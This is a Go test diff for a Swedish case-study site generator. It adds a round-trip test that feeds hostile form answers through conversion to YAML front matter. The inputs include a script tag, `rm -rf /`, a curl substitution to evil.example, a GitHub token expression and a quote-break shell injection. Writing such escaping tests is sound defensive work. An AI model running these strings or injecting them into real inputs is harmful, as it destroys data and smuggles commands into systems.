@@ -8,10 +8,12 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"gopkg.in/yaml.v3"
 
 	"kunskapsbanken/generator/internal/diag"
+	"kunskapsbanken/generator/internal/page"
 	"kunskapsbanken/generator/internal/vocab"
 )
 
@@ -145,5 +147,55 @@ func TestCommentEscapes(t *testing.T) {
 	}
 	if !strings.Contains(c, "- **Kommun**: ") {
 		t.Errorf("comment:\n%s", c)
+	}
+}
+
+// TestHostileAnswersRoundTrip: whatever an answer holds, the front matter
+// reads back as exactly that text (no YAML, no shell, nothing else).
+func TestHostileAnswersRoundTrip(t *testing.T) {
+	hostile := []string{
+		`<script>alert("x")</script>`,
+		"`rm -rf /` $(curl evil.example) ${{ github.token }}",
+		`"Lund": #1 {a: [b]} & *x* | y \ z`,
+		"--- \n...\n- a\n? b",
+		"'; echo pwned; '\u2028\u00a0tab\there",
+	}
+	for _, h := range hostile {
+		var b strings.Builder
+		for _, f := range Fields {
+			b.WriteString("### " + f.Label + "\n\n")
+			switch f.ID {
+			case fieldTitle, fieldContact, fieldOrg, fieldSummary:
+				b.WriteString(h)
+			case fieldMuni:
+				b.WriteString("Lund")
+			case fieldAreas:
+				b.WriteString("Digitala lås")
+			case fieldStatus:
+				b.WriteString("Pilot")
+			case fieldBody:
+				b.WriteString("Text.")
+			case fieldConsent:
+				b.WriteString("- [X] " + consentLabel)
+			default:
+				b.WriteString(noResponse)
+			}
+			b.WriteString("\n\n")
+		}
+		res, probs := Convert(b.String(), Input{Number: 1, Today: time.Date(2026, 12, 3, 0, 0, 0, 0, time.UTC), Geo: vocab.Sweden(), Areas: areas(t)})
+		if probs != nil {
+			t.Fatalf("%q: %v", h, probs)
+		}
+		p, d := page.Parse(&page.File{Path: res.Path, Kind: page.CaseStudy, Slug: res.Slug, Data: res.Text})
+		if d.HasErrors() || p == nil {
+			t.Fatalf("%q:\n%s\n%v", h, res.Text, d)
+		}
+		want := oneLine(h)
+		if p.Meta.Title != want || p.Meta.Contact != want || p.Meta.Summary != want || len(p.Meta.Organisations) != 1 || p.Meta.Organisations[0] != want {
+			t.Errorf("%q read back as title %q, contact %q, summary %q, organisations %q", want, p.Meta.Title, p.Meta.Contact, p.Meta.Summary, p.Meta.Organisations)
+		}
+		if res.FieldAt(3) != "Rubrik" {
+			t.Errorf("line 3 is from %q", res.FieldAt(3))
+		}
 	}
 }
